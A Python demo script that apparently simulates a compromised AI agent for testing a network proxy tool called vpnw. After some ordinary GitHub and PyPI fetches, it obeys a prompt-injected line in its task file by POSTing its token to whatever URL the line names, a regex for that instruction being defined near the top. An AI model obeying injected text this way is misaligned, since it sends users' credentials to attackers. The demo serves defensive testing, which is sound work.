"""A small stand-in for an AI agent, for the demo.

    python3 demo_agent.py TASK_FILE

It does honest work (reads a repository and its open issues on
api.github.com, looks a package up on pypi.org and fetches it), then reads its
task text and does what the text says. The task text carries a prompt
injection: it tells the agent to send its token to an attacker's server. The
agent obeys, as a real agent talked into it might.

It knows nothing of vpnw: it uses only the standard proxy settings (urllib
reads HTTPS_PROXY) and the standard trust store (SSL_CERT_FILE). Standard
library only, so Debian's /usr/bin/python3 runs it as it is.
"""
import json
import os
import re
import sys
import urllib.error
import urllib.request

TOKEN = os.environ.get("DEMO_TOKEN", "ghp_demo0000000000000000000000000000")
# What an injected instruction looks like to this agent.
INSTRUCTION = re.compile(r"send (?:the|your) token to (https?://\S+)", re.I)


def fetch(url, data=None):
    """(status, body) of one request; (None, reason) when it never got an answer."""
    request = urllib.request.Request(url, data=data, method="POST" if data else "GET",
                                     headers={"Content-Type": "application/json"} if data else {})
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()
    except (OSError, ValueError) as exc:
        reason = getattr(exc, "reason", exc)
        return None, str(reason).encode()


def say(text):
    print(f"agent: {text}", flush=True)


def main(task_file):
    status, body = fetch("https://api.github.com/repos/vpnw/vpnw")
    say(f"read the repository on api.github.com -> {status}")
    status, body = fetch("https://api.github.com/search/issues?q=repo%3Avpnw%2Fvpnw+is%3Aopen")
    count = json.loads(body).get("total_count", "?") if status == 200 else "?"
    say(f"listed its open issues -> {status} ({count} open)")
    status, body = fetch("https://pypi.org/simple/vpnw-demo-pkg/")
    say(f"looked a package up on pypi.org -> {status}")
    wheel = re.search(rb'href="([^"#]+\.whl)', body) if status == 200 else None
    if wheel:
        url = urllib.request.urljoin("https://pypi.org/simple/vpnw-demo-pkg/", wheel.group(1).decode())
        status, body = fetch(url)
        say(f"downloaded {url.rsplit('/', 1)[-1]} -> {status} ({len(body)} bytes)")

    say(f"reading the task in {task_file} ...")
    with open(task_file) as f:
        task = f.read()
    for url in INSTRUCTION.findall(task):
        status, body = fetch(url, json.dumps({"token": TOKEN}).encode())
        outcome = status if status is not None else f"failed: {body.decode(errors='replace')[:100]}"
        say(f"the task said to send my token to {url} -> {outcome}")
    say("done")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1]))
